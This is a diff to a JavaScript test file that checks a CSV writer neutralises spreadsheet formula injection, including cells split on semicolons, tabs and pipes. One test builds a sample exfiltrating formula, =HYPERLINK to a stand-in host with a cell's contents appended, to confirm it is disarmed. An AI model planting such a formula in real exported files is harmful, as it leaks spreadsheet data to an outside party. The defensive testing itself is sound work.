@@ -17,13 +17,37 @@ describe('writeCsv', () => {
     ).toBe('group,count\r\n"a ""b"", c",-1.5\r\nx,\r\ny,<10\r\n');
   });
 
-  it.each(['=1+1', '+1', '-1', '@x', '\t=1', '\r=1', '=1\n2', '＝1'])(
-    'disarms %j, as a label and as a header',
-    (text) => {
-      const { data } = Papa.parse<string[]>(writeCsv([text], [[text]]), { newline: '\r\n', skipEmptyLines: true });
-      expect(data).toEqual([[`'${text}`], [`'${text}`]]);
-    },
-  );
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@x', "'@x"],
+    ['\tx', "'\tx"],
+    ['\t=1', "'\t'=1"],
+    ['\r=1', "'\r'=1"],
+    ['=1\n2', "'=1\n2"],
+    ['＝1', "'＝1"],
+  ])('disarms %j, as a label and as a header', (text, disarmed) => {
+    const { data } = Papa.parse<string[]>(writeCsv([text], [[text]]), { newline: '\r\n', skipEmptyLines: true });
+    expect(data).toEqual([[disarmed], [disarmed]]);
+  });
+
+  it('disarms formulas of spreadsheets that part a file elsewhere than at its commas', () => {
+    const formula = '=HYPERLINK("http://else.example/?"&A1)';
+    const labels = [`a;${formula};b`, `a; "${formula}`, `a\t${formula}`, `a|+1`, `a\n${formula}`, `a;;\n ＝1`, `a,;-1`];
+    const text = writeCsv(
+      ['group', 'label'],
+      labels.map((label) => ['ward', label]),
+    );
+    for (const separator of [',', ';', '\t', '|']) {
+      // The reader that helps an attacker most: quotation marks are letters to it.
+      const cells = text.split(/[\r\n]+/).flatMap((line) => line.split(separator));
+      expect(cells.filter((cell) => /^[\s"']*[=+@＝-]/.test(cell) && !/^[\s"]*'/.test(cell))).toEqual([]);
+    }
+    expect(writeCsv(['a'], [['north; south'], ['10-19; 20-29'], ['x | y = 3']])).toBe(
+      'a\r\nnorth; south\r\n10-19; 20-29\r\nx | y = 3\r\n',
+    );
+  });
 
   it('prints numbers as a person expects them', () => {
     const rows = [[0.1 + 0.2, 57464.333333333336, 9007199254740991, -1.5]];
